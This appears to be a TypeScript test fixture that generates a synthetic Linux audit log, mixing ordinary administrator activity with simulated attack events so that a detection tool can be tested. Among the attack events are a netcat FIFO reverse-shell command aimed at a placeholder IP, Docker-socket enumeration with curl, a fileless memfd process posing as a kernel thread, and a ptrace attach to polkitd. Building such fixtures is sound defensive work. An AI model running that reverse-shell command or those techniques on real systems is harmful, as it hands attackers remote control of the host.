// A server's audit log: package work and a container tool of the administrator's, a remote shell made of a FIFO, a visit to the
// container runtime's socket, a program that runs from memory and one that attaches to another user's process.
import {
  type AuditEventText,
  auditLines,
  auditText,
  hex,
  pathFields,
  syscallFields,
  unixAddress,
} from '../../test/tools/audit-builder.ts'

const start = Date.UTC(2026, 2, 2, 9, 0, 0) / 1000

export function linuxExample(): string {
  let serial = 4100
  const at = (seconds: number) => ({
    serial: ++serial,
    seconds: start + seconds,
    milliseconds: 412,
    node: 'srv3.corp.example',
  })
  const events: AuditEventText[] = [
    { ...at(0), records: executed('/usr/bin/ls', ['ls', '-l', '/tmp']) },
    { ...at(4), records: connected('/usr/bin/docker', '/var/run/docker.sock') },
    { ...at(9), records: executed('/usr/bin/gpg', ['gpg', '--version']) },
    {
      ...at(61),
      records: executed('/usr/bin/dash', [
        'sh',
        '-c',
        'mkfifo /var/tmp/.q; cat /var/tmp/.q | sh -i 2>&1 | nc 203.0.113.66 443 > /var/tmp/.q',
      ]),
    },
    { ...at(61), records: fifo('/var/tmp/.q') },
    {
      ...at(90),
      records: executed('/usr/bin/curl', [
        'curl',
        '-s',
        '--unix-socket',
        '/var/run/docker.sock',
        'http://x/containers/json',
      ]),
    },
    { ...at(90), records: connected('/usr/bin/curl', '/var/run/docker.sock') },
    {
      ...at(130),
      records: executed('/memfd:upd (deleted)', ['[kworker/u8:2]']),
    },
    { ...at(131), records: attached('/memfd:upd (deleted)') },
    { ...at(200), records: connected('/usr/bin/ls', '/run/nscd/socket') },
  ]
  return `${interleaved(events.map(auditLines)).join('\n')}\n`
}

// Two processors write at once: the records of neighbours mix.
function interleaved(events: readonly (readonly string[])[]): string[] {
  const lines: string[] = []
  for (let i = 0; i < events.length; i += 2) {
    const [a, b] = [events[i] ?? [], events[i + 1] ?? []]
    for (let n = 0; n < Math.max(a.length, b.length); n++) {
      if (a[n] !== undefined) lines.push(a[n]!)
      if (b[n] !== undefined) lines.push(b[n]!)
    }
  }
  return lines
}

type Records = AuditEventText['records']

function executed(exe: string, argv: readonly string[]): Records {
  const comm = argv[0]!.slice(0, 15)
  const args = argv.map((a, i) => `a${i}=${auditText(a)}`).join(' ')
  return [
    [
      'SYSCALL',
      syscallFields({ syscall: 59, exe, comm, items: 1, key: 'exec' }),
    ],
    ['EXECVE', `argc=${argv.length} ${args}`],
    ['CWD', 'cwd="/home/ana"'],
    ['PATH', pathFields({ item: 0, name: exe, mode: '0100755' })],
    ['PROCTITLE', `proctitle=${hex(argv.join('\0').slice(0, 128))}`],
  ]
}

function connected(exe: string, path: string): Records {
  const comm = exe.slice(exe.lastIndexOf('/') + 1)
  return [
    [
      'SYSCALL',
      syscallFields({
        syscall: 42,
        exe,
        comm,
        items: 1,
        registers: ['3', '7ffd0a10', (path.length + 3).toString(16)],
        key: 'ipc_connect',
      }),
    ],
    ['SOCKADDR', `saddr=${unixAddress(path)}`],
    ['CWD', 'cwd="/home/ana"'],
    ['PATH', pathFields({ item: 0, name: path, mode: '0140660' })],
    ['PROCTITLE', `proctitle=${auditText(comm)}`],
  ]
}

function fifo(path: string): Records {
  return [
    [
      'SYSCALL',
      syscallFields({
        syscall: 259,
        exe: '/usr/bin/mkfifo',
        comm: 'mkfifo',
        items: 2,
        registers: ['ffffff9c', '7ffd0a10', '11b6'],
        key: 'ipc_fifo',
      }),
    ],
    ['CWD', 'cwd="/home/ana"'],
    [
      'PATH',
      pathFields({
        item: 0,
        name: '/var/tmp/',
        nametype: 'PARENT',
        mode: '041777',
      }),
    ],
    [
      'PATH',
      pathFields({ item: 1, name: path, nametype: 'CREATE', mode: '010644' }),
    ],
    ['PROCTITLE', `proctitle=${hex(`mkfifo\0${path}`)}`],
  ]
}

function attached(exe: string): Records {
  return [
    [
      'SYSCALL',
      syscallFields({
        syscall: 101,
        exe,
        comm: 'upd',
        registers: ['10', '32b', '0', '0'],
        key: 'ipc_ptrace',
      }),
    ],
    [
      'OBJ_PID',
      'opid=811 oauid=4294967295 ouid=0 oses=4294967295 ocomm="polkitd"',
    ],
    ['PROCTITLE', `proctitle=${auditText('upd')}`],
  ]
}
